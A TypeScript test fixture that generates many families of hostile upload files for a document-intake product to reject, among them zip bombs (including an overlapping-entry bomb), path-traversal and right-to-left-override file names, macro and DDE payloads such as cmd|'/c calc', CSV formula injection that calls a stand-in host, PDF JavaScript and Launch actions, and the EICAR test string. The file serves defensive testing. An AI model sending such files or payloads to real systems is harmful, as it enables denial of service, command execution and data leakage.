import { crc32, deflateRawSync } from 'node:zlib';
import { zipOf } from '../../libs/server/src/documents/zip.ts';
import {
  compound,
  executable,
  objectStream,
  office,
  officeParts,
  ofd,
  patchedZip,
  pdf,
  png,
  relationship,
  sheet,
  wordStream,
  workbookStream,
} from '../../libs/server/src/files/made-files.fixture.ts';
import type { Dice } from './dice.ts';

export interface HostileFile {
  name: string;
  bytes: Buffer;
  /** Of a file far larger than its bytes, filled up with nothing. */
  size?: number;
}
type Make = (dice: Dice) => HostileFile;

const kinds = ['docx', 'xlsx', 'pptx'] as const;
const folderOf = { docx: 'word', xlsx: 'xl', pptx: 'ppt' };
const stems = ['工作总结', '执法检查记录', '名册', '第三季度报告', 'report', '会议纪要（定稿）', '台账-2024'];
const wide = (text: string): Buffer => Buffer.from(text, 'utf16le');
const name = (dice: Dice, extension: string): string =>
  `${dice.of(stems)}${dice.below(10_000)}.${dice.of([extension, extension, extension.toUpperCase()])}`;
const noise = (dice: Dice, most: number): Buffer => dice.bytes(1 + dice.below(most));
const words = (dice: Dice): string => `<w:t>${'核对执法人员名册'.repeat(1 + dice.below(400))}</w:t>`;

function officeWith(dice: Dice, part: (folder: string) => [string, Buffer | string], only?: 'docx' | 'xlsx' | 'pptx') {
  const kind = only ?? dice.of(kinds);
  const bytes = office(kind, {
    body: words(dice),
    more: [['docProps/app.xml', '<Properties/>'], part(folderOf[kind])],
  });
  return { name: name(dice, kind), bytes };
}
const linked = (dice: Dice, type: string, target: string): HostileFile => {
  const kind = dice.of(kinds);
  return {
    name: name(dice, kind),
    bytes: office(kind, { body: words(dice), relationships: relationship(type, target) }),
  };
};
const pdfWith = (dice: Dice, object: string | Buffer): HostileFile => {
  const filler = Array.from({ length: dice.below(30) }, (_, n) => `<< /Type /Font /BaseFont /F${n} >>`);
  return { name: name(dice, 'pdf'), bytes: pdf(...filler, object, ...filler.slice(0, 3)) };
};
/** A PDF name with some of its letters written as numbers. */
const escaped = (dice: Dice, text: string): string =>
  [...text].map(letter => (dice.below(3) === 0 ? `#${letter.charCodeAt(0).toString(16)}` : letter)).join('');
const evil = (dice: Dice): string => `http://10.${dice.below(255)}.0.1/${dice.below(1e6)}`;
const command = (dice: Dice): string =>
  dice.of(["cmd|'/c calc'!A0", "+cmd|'/C powershell'!_xl", "MSEXCEL|'\\..\\cmd.exe'!A1"]);
const testVirus = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}', '$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');
const goodPdf = (dice: Dice): Buffer => pdf(`<< /Producer (${dice.below(1e6)}) >>`);
const goodZip = (dice: Dice): Buffer => zipOf([['a.txt', `x${dice.below(1e6)}`]], { deflated: true });
const gif = (): Buffer => Buffer.from('GIF89a\x01\0\x01\0\0\0\0;', 'latin1');
const html = (dice: Dice): string =>
  dice.of([
    '<!DOCTYPE html><script>alert(1)</script>',
    '<html><body onload=x()>',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>',
    '<?xml version="1.0"?><svg/>',
  ]);

/** One kernel of packed data that many entries share (Fifield): small to hold, endless to unpack. */
function overlappingBomb(dice: Dice): Buffer {
  const kernel = deflateRawSync(Buffer.alloc(1 << 20, 65));
  const sum = crc32(Buffer.alloc(1 << 20, 65));
  const base = zipOf(officeParts('docx'), { deflated: true });
  const directoryAt = base.readUInt32LE(base.length - 6);
  const header = Buffer.alloc(30);
  header.write('PK\x03\x04', 'latin1');
  header.writeUInt16LE(20, 4);
  header.writeUInt16LE(8, 8);
  header.writeUInt32LE(sum, 14);
  header.writeUInt32LE(kernel.length, 18);
  header.writeUInt32LE(1 << 20, 22);
  header.writeUInt16LE(1, 26);
  const entries = Array.from({ length: 50 + dice.below(200) }, () => {
    const entry = Buffer.alloc(47);
    entry.write('PK\x01\x02\x14\x00', 'latin1');
    header.copy(entry, 6, 4, 30);
    entry.writeUInt32LE(directoryAt, 42);
    entry.write(String.fromCharCode(97 + dice.below(26)), 46);
    return entry;
  });
  const directory = Buffer.concat([base.subarray(directoryAt, base.length - 22), ...entries]);
  const end = Buffer.from(base.subarray(base.length - 22));
  end.writeUInt16LE(4 + entries.length, 8);
  end.writeUInt16LE(4 + entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(directoryAt + 31 + kernel.length, 16);
  return Buffer.concat([base.subarray(0, directoryAt), header, Buffer.from('a'), kernel, directory, end]);
}

function nested(dice: Dice, depth: number): Buffer {
  return depth === 0
    ? goodZip(dice)
    : office('docx', { body: words(dice), more: [[`word/embeddings/${depth}.docx`, nested(dice, depth - 1)]] });
}

/** Families of files that the product must not take, each with as many variants as are asked for. */
export const hostileFamilies: Record<string, Make> = {
  'empty': dice => ({ name: name(dice, dice.of(['pdf', 'docx', 'txt', 'jpg'])), bytes: Buffer.alloc(0) }),
  'larger than allowed': dice => ({
    name: name(dice, 'pdf'),
    bytes: goodPdf(dice),
    size: (200 << 20) + 1 + dice.below(1 << 20),
  }),
  'name of 4 KB': dice => ({ name: `${'长'.repeat(1000 + dice.below(400))}.pdf`, bytes: goodPdf(dice) }),
  'path in the name': dice => ({
    name: dice.of(['../a.pdf', '..\\..\\a.pdf', '/etc/a.pdf', 'C:\\a.pdf', '\\\\host\\a.pdf', `x/${dice.below(99)}.pdf`]),
    bytes: goodPdf(dice),
  }),
  'direction marks in the name': dice => ({
    name: `${dice.of(stems)}${dice.of(['\u202e', '\u200f', '\u2067', '\u202b'])}fdp.${dice.of(['pdf', 'docx', 'exe'])}`,
    bytes: goodPdf(dice),
  }),
  'control characters in the name': dice => ({
    name: `${dice.of(stems)}${dice.of(['\0', '\r\n', '\x1b[2J', '\x7f', '\u2028'])}.pdf`,
    bytes: goodPdf(dice),
  }),
  'device name': dice => ({ name: `${dice.of(['CON', 'nul', 'COM1', 'lpt9', 'AUX'])}.pdf`, bytes: goodPdf(dice) }),
  'double extension': dice => ({
    name: `${dice.of(stems)}.pdf.${dice.of(['exe', 'js', 'scr', 'bat', 'hta', 'lnk'])}`,
    bytes: executable(),
  }),
  'program as a document': dice => ({
    name: name(dice, dice.of(['pdf', 'docx', 'jpg', 'txt', 'csv'])),
    bytes: dice.of([executable(), Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), noise(dice, 4000)])]),
  }),
  'page or drawing as a document': dice => ({
    name: name(dice, dice.of(['txt', 'csv', 'jpg', 'png', 'pdf', 'docx'])),
    bytes: Buffer.from(`${dice.of(['', '\ufeff', ' \n'])}${html(dice)}`),
  }),
  'kind not allowed': dice => ({
    name: name(dice, dice.of(['svg', 'html', 'zip', 'rar', 'exe', 'js', 'docm', 'xlsm', 'mht', 'iso', 'gif', 'rtf', 'xlsb'])),
    bytes: dice.of([goodZip(dice), goodPdf(dice), Buffer.from(html(dice))]),
  }),
  'one kind named as another': dice => {
    const [content, wrong] = dice.of<[Buffer, string[]]>([
      [goodPdf(dice), ['docx', 'jpg', 'txt']],
      [png(), ['pdf', 'jpg', 'txt']],
      [office('docx'), ['xlsx', 'pptx', 'pdf', 'txt']],
      [compound({ WordDocument: wordStream() }), ['xls', 'docx', 'pdf']],
      [gif(), ['jpg', 'png', 'pdf']],
      [noise(dice, 5000), ['pdf', 'docx', 'jpg']],
    ]);
    return { name: name(dice, dice.of(wrong)), bytes: content };
  },
  'archive as a document': dice => ({
    name: name(dice, dice.of(['docx', 'xlsx', 'pdf', 'jpg'])),
    bytes: dice.of([goodZip(dice), Buffer.concat([Buffer.from('Rar!\x1a\x07\x01\0', 'latin1'), noise(dice, 900)])]),
  }),
  'flat bomb': dice => officeWith(dice, f => [`${f}/media/a.bmp`, Buffer.alloc((4 + dice.below(24)) << 20)]),
  'bomb in portions': dice => ({
    name: name(dice, 'docx'),
    bytes: office('docx', {
      more: Array.from({ length: 20 + dice.below(15) }, (_, n) => [`word/${n}`, Buffer.alloc(1 << 20)]),
    }),
  }),
  'nested bomb': dice => ({ name: name(dice, 'docx'), bytes: nested(dice, 1 + dice.below(5)) }),
  'overlapping entries': dice => ({ name: name(dice, 'docx'), bytes: overlappingBomb(dice) }),
  'lying sizes': dice => ({
    name: name(dice, 'docx'),
    bytes: patchedZip(
      office('docx', { more: [['word/a.bin', Buffer.alloc(9000 + dice.below(90_000), 65)]] }),
      (central, local) => {
        const lie = dice.of([-1, 1, -central.readUInt32LE(24) + 1, 4096]);
        central.writeUInt32LE(Math.max(0, central.readUInt32LE(24) + lie), 24);
        if (dice.below(2)) local.writeUInt32LE(central.readUInt32LE(24), 22);
      },
    ),
  }),
  '10,001 entries and more': dice => ({
    name: name(dice, 'docx'),
    bytes: zipOf(Array.from({ length: 10_001 + dice.below(5_000) }, (_, n) => [`word/${n}`, ''] as const)),
  }),
  'symbolic link': dice => ({
    name: name(dice, 'docx'),
    bytes: patchedZip(office('docx', { body: words(dice) }), (central, _, index) => {
      if (index === 1 + dice.below(2)) central.writeUInt32LE((0o120777 << 16) >>> 0, 38);
      if (index === 3) central.writeUInt32LE((0o120777 << 16) >>> 0, 38);
    }),
  }),
  'path out of the package': dice => ({
    name: name(dice, 'docx'),
    bytes: zipOf([...officeParts('docx', { body: words(dice) }), [dice.of(['../evil', '/evil', 'a/../../evil', 'C:/evil']), 'x']]),
  }),
  'encrypted package': dice => ({
    name: name(dice, dice.of(['docx', 'xlsx'])),
    bytes: compound({ EncryptedPackage: noise(dice, 20_000), EncryptionInfo: noise(dice, 500) }),
  }),
  'encrypted entry': dice => ({
    name: name(dice, 'docx'),
    bytes: patchedZip(office('docx', { body: words(dice) }), central => central.writeUInt16LE(0x801, 8)),
  }),
  'encrypted PDF': dice => pdfWith(dice, `<< /${escaped(dice, 'Encrypt')} ${dice.below(90)} 0 R >>`),
  'encrypted old document': dice => ({
    name: name(dice, 'doc'),
    bytes: compound({ WordDocument: wordStream({ flags: 0x0100, text: '正文'.repeat(dice.below(50)) }) }),
  }),
  'macros in a package': dice => officeWith(dice, f => [`${f}/${dice.of(['vbaProject.bin', 'VBAPROJECT.BIN'])}`, noise(dice, 9000)]),
  'macro sheet': dice => officeWith(dice, () => [`xl/macrosheets/sheet${dice.below(9)}.xml`, '<xm:macrosheet/>'], 'xlsx'),
  'macros in an old document': dice => ({
    name: name(dice, 'doc'),
    bytes: compound({ WordDocument: wordStream(), [dice.of(['_VBA_PROJECT', 'Macros', 'VBA'])]: noise(dice, 9000) }),
  }),
  'macro sheet in an old workbook': dice => ({
    name: name(dice, 'xls'),
    bytes: compound({ Workbook: workbookStream([0x85, Buffer.from([0, 0, 0, 0, 0, dice.of([1, 6]), 1, 0, 65])]) }),
  }),
  'DDE in a workbook': dice => ({ name: name(dice, 'xlsx'), bytes: sheet(command(dice)) }),
  'DDE field in a document': dice => ({
    name: name(dice, 'docx'),
    bytes: office('docx', {
      body: `${words(dice)}<w:fldChar/><w:instrText> ${dice.of(['DDEAUTO', 'DDE'])}</w:instrText><w:r/><w:instrText> c:\\x</w:instrText>`,
    }),
  }),
  'outside template or object': dice =>
    linked(dice, dice.of(['attachedTemplate', 'oleObject', 'frame', 'image', 'subDocument']), evil(dice)),
  'packed object': dice =>
    officeWith(dice, f => [`${f}/embeddings/o.bin`, compound({ '\x01Ole10Native': noise(dice, 3000) })]),
  'program inside a package': dice => officeWith(dice, f => [`${f}/media/${dice.below(99)}.png`, executable()]),
  'script in a PDF': dice =>
    pdfWith(dice, dice.of([
      `<< /S /${escaped(dice, 'JavaScript')} /JS (app.alert\\(1\\)) >>`,
      objectStream(`5 0 << /S /${escaped(dice, 'JavaScript')} /JS (x) >>`),
    ])),
  'start or sending in a PDF': dice =>
    pdfWith(dice, `<< /S /${escaped(dice, dice.of(['Launch', 'SubmitForm', 'ImportData']))} /F (cmd.exe) >>`),
  'file inside a PDF': dice =>
    pdfWith(dice, `<< /Type /${escaped(dice, dice.of(['EmbeddedFile', 'FileAttachment', 'RichMedia']))} >>`),
  'PDF and zip at once': dice => ({ name: name(dice, 'pdf'), bytes: Buffer.concat([goodPdf(dice), goodZip(dice)]) }),
  'picture and archive at once': dice => ({
    name: name(dice, 'png'),
    bytes: png({ after: dice.of([goodZip(dice), Buffer.concat([Buffer.from("7z\xbc\xaf'\x1c", 'latin1'), noise(dice, 99)])]) }),
  }),
  'picture and page at once': dice => ({
    name: name(dice, dice.of(['jpg', 'png'])),
    bytes: dice.of([
      Buffer.concat([gif(), Buffer.from(html(dice))]),
      Buffer.concat([png().subarray(0, 33), Buffer.from(html(dice)), png().subarray(33)]),
    ]),
  }),
  'calls in a text table': dice => ({
    name: name(dice, 'csv'),
    bytes: Buffer.from(
      `单位,得分\n${dice.of(['', '\u00a0', ' \t', '"'])}${dice.of([
        `=${command(dice)}`,
        `@SUM(1)*${command(dice)}`,
        '=HYPERLINK("http://10.0.0.1/?"&A1,"x")',
        '+WEBSERVICE("http://10.0.0.1")',
        '=IMPORTXML("http://10.0.0.1","//a")',
      ])}\n`,
    ),
  }),
  'calls in a workbook': dice => ({
    name: name(dice, 'xlsx'),
    bytes: sheet(dice.of(['WEBSERVICE(&quot;http://10.0.0.1&quot;)', 'DDE(&quot;cmd&quot;,&quot;x&quot;,1)', 'FILTERXML(A1,&quot;//a&quot;)', '_xlfn.WEBSERVICE(A1)', 'CALL(&quot;urlmon&quot;,&quot;x&quot;)', 'REGISTER.ID(&quot;a&quot;,&quot;b&quot;)'])),
  }),
  'cut file': dice => {
    const [extension, whole] = dice.of<[string, Buffer]>([
      ['pdf', goodPdf(dice)],
      ['docx', office('docx', { body: words(dice) })],
      ['png', png()],
      ['doc', compound({ WordDocument: wordStream() })],
    ]);
    return { name: name(dice, extension), bytes: whole.subarray(0, Math.floor(whole.length * (0.2 + dice.next() * 0.6))) };
  },
  'odd encoding in a package': dice =>
    officeWith(dice, f => [
      `${f}/_rels/a.rels`,
      Buffer.concat([Buffer.from([0xff, 0xfe]), wide(`<Relationships x="${dice.below(1e6)}"/>`)]),
    ]),
  'entities in a package': dice =>
    officeWith(dice, f => [`${f}/a.xml`, `<!DOCTYPE a [<!ENTITY b "${dice.below(1e9)}">]><a>&b;</a>`]),
  'test virus': dice => ({ name: name(dice, 'txt'), bytes: Buffer.from(`${testVirus}${dice.of(['', '\n', ' '])}`) }),
  'program in an OFD': dice => ({ name: name(dice, 'ofd'), bytes: ofd([`Doc_0/Res/${dice.below(99)}.jpg`, executable()]) }),
  'NUL in a text': dice => ({
    name: name(dice, dice.of(['txt', 'csv'])),
    bytes: Buffer.concat([Buffer.from('正文'), Buffer.from([0, 0, 1, 2]), noise(dice, 200)]),
  }),
  'noise': dice => ({ name: name(dice, dice.of(['pdf', 'docx', 'xlsx', 'png', 'jpg', 'doc'])), bytes: dice.bytes(64 + dice.below(9000)) }),
}; // prettier-ignore
